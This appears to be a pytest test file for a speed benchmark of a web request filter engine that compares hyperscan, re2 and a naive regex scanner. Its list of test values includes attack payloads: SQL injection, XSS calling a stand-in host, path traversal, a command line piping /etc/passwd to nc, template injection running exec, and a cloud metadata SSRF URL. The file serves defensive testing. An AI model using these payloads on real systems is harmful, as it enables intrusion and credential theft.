"""Tests of the speed benchmark (bench/speed.py) and its naive baseline (bench/naive_scanner.py).

No timing assertions: the machine is shared and noisy, and the script judges only ratios
measured within one run. These tests check that it runs, reports every shape and engine, and
that the naive baseline does the same work as the engine's scanners.
"""

from __future__ import annotations

import importlib.util
import json
import subprocess
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from airlock_filters.engine import Engine
from airlock_filters.policy import default_policy

REPO_ROOT = Path(__file__).resolve().parent.parent
BENCH = REPO_ROOT / "bench"
SCRIPT = BENCH / "speed.py"
SHAPES = ["get", "form", "json", "multipart"]
ENGINES = ["hyperscan", "re2", "naive"]
ALL_BITS = (1 << 18) - 1  # every (kind, variant) slot: each pattern is searched in each value

VALUES = [
    b"wireless noise cancelling headphones",
    b"Please leave the parcel with the neighbour at number 14 if nobody is home.",
    b"1' OR '1'='1' -- ",
    b"1 union select username, password from users",
    b"<script>alert(document.cookie)</script>",
    b"<img src=x onerror=\"fetch('//evil.example')\">",
    b"../../../../etc/passwd",
    b"; cat /etc/passwd | nc 10.0.0.1 4444",
    b"{{7*7}}${T(java.lang.Runtime).getRuntime().exec('id')}",
    b"http://169.254.169.254/latest/meta-data/",
    b"/.git/config",
    b"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    b"line one\nline two\n",
    b"\xc3\xa9t\xc3\xa9 \xff\xfe",
    b"",
]


def _load(name: str) -> ModuleType:
    """Import a bench script by file (bench/ is not a package); its siblings import it by name."""
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, BENCH / f"{name}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


naive_scanner = _load("naive_scanner")


@pytest.fixture(scope="module")
def quick_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    out = tmp_path_factory.mktemp("speed")
    proc = subprocess.run(
        [sys.executable, str(SCRIPT), "--quick", "--out", str(out)],
        capture_output=True,
        text=True,
        timeout=900,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr[-4000:]
    return out, proc.stdout


def _load_result(out: Path) -> dict[str, Any]:
    result: dict[str, Any] = json.loads((out / "speed.json").read_text(encoding="utf-8"))
    return result


def test_quick_run_writes_a_table_of_every_shape_and_engine(quick_run: tuple[Path, str]) -> None:
    out, stdout = quick_run
    markdown = (out / "speed.md").read_text(encoding="utf-8")
    assert markdown == stdout.rstrip("\n") + "\n"  # what is printed is what is written
    table = markdown.split("## Per-request cost of `inspect`")[1].split("\n## ")[0]
    header = next(line for line in table.splitlines() if line.startswith("| Shape"))
    for engine in ENGINES:
        assert engine in header
    assert "naive / hyperscan" in header and "re2 / hyperscan" in header
    rows = [line for line in table.splitlines() if line.startswith("| ") and "---" not in line]
    for shape in [*SHAPES, "mix"]:
        assert any(row.startswith(f"| {shape}") or f"**{shape}**" in row for row in rows)
    assert "target ≥ 30x" in table and "target ≥ 3x" in table
    assert "## Memory of a compiled default policy" in markdown
    assert "### Where the time of `inspect` goes" in markdown
    assert "## Costliest patterns" in markdown


def test_quick_run_numbers_are_plausible(quick_run: tuple[Path, str]) -> None:
    result = _load_result(quick_run[0])
    assert result["meta"]["patterns"] > 0
    assert result["meta"]["engines"] == ENGINES
    for shape in [*SHAPES, "mix"]:
        for engine in ENGINES:
            assert result["inspect_us"][shape][engine] > 0
            assert result["scan_mb_per_s"][shape][engine] > 0
            assert result["scan_us"][shape][engine] > 0
        for engine in ("re2", "naive"):
            assert result["inspect_ratios"][shape][engine] > 0
            assert result["scan_ratios"][shape][engine] > 0
    for shape in SHAPES:
        request = result["requests"][shape]
        assert request["values_scanned"] > 0 and request["value_bytes"] > 0
        assert set(request["decision"]) == set(ENGINES)
    assert {t["ratio"] for t in result["targets"]} == {"naive/hyperscan", "re2/hyperscan"}
    assert all(t["value"] > 0 for t in result["targets"])
    memory = result["memory"]
    assert memory["hyperscan"]["database_bytes"] > 0
    assert memory["re2"]["database_bytes"] is None
    for implementation in ("hyperscan", "re2"):
        assert memory[implementation]["build_seconds"] > 0
        assert memory[implementation]["peak_rss_growth_bytes"] >= 0


def test_request_shapes_have_the_sizes_asked_for(quick_run: tuple[Path, str]) -> None:
    requests = _load_result(quick_run[0])["requests"]
    assert requests["get"]["headers"] == 15 and requests["get"]["body_bytes"] == 0
    assert 900 <= requests["form"]["body_bytes"] <= 1024
    assert 9 * 1024 <= requests["json"]["body_bytes"] <= 10 * 1024
    assert 100 * 1024 < requests["multipart"]["body_bytes"] < 110 * 1024


@pytest.fixture(scope="module")
def default_patterns() -> list[tuple[bytes, int, int]]:
    return Engine(default_policy(), implementation="re2").patterns


def test_naive_scanner_finds_what_the_re2_twin_finds(
    default_patterns: list[tuple[bytes, int, int]],
) -> None:
    twin = Engine(default_policy(), implementation="re2").scanner
    naive = naive_scanner.NaiveReScanner(default_patterns)
    # A pattern Python cannot compile at all is reported by the benchmark; there must be few.
    assert len(naive.skipped) <= len(default_patterns) // 20, naive.skipped_reasons
    skipped = set(naive.skipped)
    bits = [ALL_BITS] * len(VALUES)
    expected = [hit for hit in twin.scan(VALUES, bits) if hit[0] not in skipped]
    assert expected, "the attack values should match some pattern"
    assert naive.scan(VALUES, bits) == expected
    assert len(naive) == len(default_patterns)


def test_naive_scanner_honours_masks() -> None:
    scanner = naive_scanner.NaiveReScanner([(b"abc", 0, 0b01), (b"ABC", 1, 0b10)])
    assert scanner.scan([b"xabcx", b"xabcx"], [0b01, 0b10]) == [(0, 0), (1, 1)]
    assert scanner.scan([b"xabcx"], [0b100]) == []


def test_naive_scanner_skips_what_python_cannot_compile() -> None:
    scanner = naive_scanner.NaiveReScanner([(b"\\pL+", 0, 1), (b"(unclosed", 0, 1), (b"ok", 0, 1)])
    assert scanner.skipped == [0, 1]
    assert scanner.scan([b"ok"], [1]) == [(2, 0)]


@pytest.mark.parametrize(
    ("expression", "translated"),
    [
        (rb"ab\z", rb"ab\Z"),
        (rb"a\\z", rb"a\\z"),  # an escaped backslash, then a literal z
        (rb"end$", rb"end\Z"),
        (rb"(?m)end$", rb"(?m)end$"),
        (rb"\$[$]", rb"\$[$]"),
        (rb"[]$]x", rb"[]$]x"),
        (rb"[[:digit:]_]+", rb"[0-9_]+"),
        (rb"\x{41}", rb"\x41"),
        (rb"a\sb[\s,]\S", rb"a[\t\n\f\r ]b[\t\n\f\r ,][^\t\n\f\r ]"),
    ],
)
def test_translation_to_python_re(expression: bytes, translated: bytes) -> None:
    assert naive_scanner.to_python_re(expression) == translated


def test_translated_patterns_match_like_re2() -> None:
    compile_naive = naive_scanner.compile_naive
    assert compile_naive(rb"a$", 0).search(b"a\n") is None  # RE2's $ is the end of the text
    assert compile_naive(rb"a\z", 0).search(b"xa") is not None
    assert compile_naive(rb"a\sb", 0).search(b"a\x0bb") is None  # RE2's \s has no \v
    assert compile_naive(rb"select", naive_scanner.CASELESS).search(b"SeLeCt") is not None
    assert compile_naive(rb"a.b", naive_scanner.DOTALL).search(b"a\nb") is not None
